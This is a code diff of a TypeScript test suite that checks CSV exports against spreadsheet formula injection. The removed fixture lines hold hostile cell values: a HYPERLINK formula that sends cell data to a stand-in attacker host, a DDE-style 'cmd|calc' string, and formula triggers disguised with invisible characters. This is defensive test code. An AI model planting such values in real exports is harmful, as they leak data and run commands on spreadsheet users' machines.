@@ -9,8 +9,8 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { cli } from '../cli/cliHarness';
 import { cells } from './csvCells';
+import { hostileLabelScenario, PAYLOAD } from './hostileLabelScenario';
 
-const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 let dir = '';
 
 /** No cell may start (after invisible or blank characters) with a formula trigger, unless it is a plain number. */
@@ -26,37 +26,7 @@ const expectInert = (table: string[][]): void => {
   }
 };
 
-const hostileScenario = {
-  format: 'parley.scenario/1',
-  id: 'hostile',
-  title: `${PAYLOAD} title`,
-  parameters: {
-    a: { label: '\uff1dcmd|calc', default: 2, min: 0, max: 4, uncertainty: '1 to 3' },
-    b: { label: ' =1+1', default: 1, min: 0, max: 2, uncertainty: '0.5 to 1.5' },
-  },
-  actors: [
-    {
-      id: 'P',
-      name: '@SUM(1)',
-      strategies: [
-        { id: 'up', label: '+1+1' },
-        { id: 'down', label: '\u200b-2+3' },
-      ],
-      payoffs: { up: 'a * Q.left', down: 'b' },
-    },
-    {
-      id: 'Q',
-      name: '\tQ',
-      strategies: [
-        { id: 'left', label: 'Left' },
-        { id: 'right', label: 'Right' },
-      ],
-      payoffs: { left: 'P.up', right: 'P.down' },
-    },
-  ],
-  outcomes: { coord: { label: PAYLOAD, when: 'P.up and Q.left' } },
-  metrics: { pay: { label: '\ufe66x', value: 'a + b' } },
-};
+const hostileScenario = hostileLabelScenario(`${PAYLOAD} title`, ['Left', 'Right']);
 
 beforeAll(() => {
   dir = mkdtempSync(join(tmpdir(), 'parley-csv-injection-'));
@@ -160,21 +130,12 @@ describe('run, sweep, compare and sensitivity CSV exports', () => {
     expect(compare.code, compare.err).toBe(0);
     const cmp = cells(read('compare.csv'));
     expectInert(cmp);
-    expect(cmp[0]).toEqual([
-      'kind',
-      'id',
-      'label',
-      'baseline',
-      'baseline_low',
-      'baseline_high',
-      'variant',
-      'variant_low',
-      'variant_high',
-      'difference',
-      'difference_low',
-      'difference_high',
-      'n',
-    ]);
+    // The spec's column list, written once here (models/engine/whatIfTables.ts writes it).
+    expect(cmp[0]).toEqual(
+      'kind,id,label,baseline,baseline_low,baseline_high,variant,variant_low,variant_high,difference,difference_low,difference_high,n'.split(
+        ',',
+      ),
+    );
     expect(cmp[1]?.slice(0, 3)).toEqual(['outcome', 'coord', `'${PAYLOAD}`]);
     expect(JSON.parse(read('compare.json')).table).toBe('compare');
 
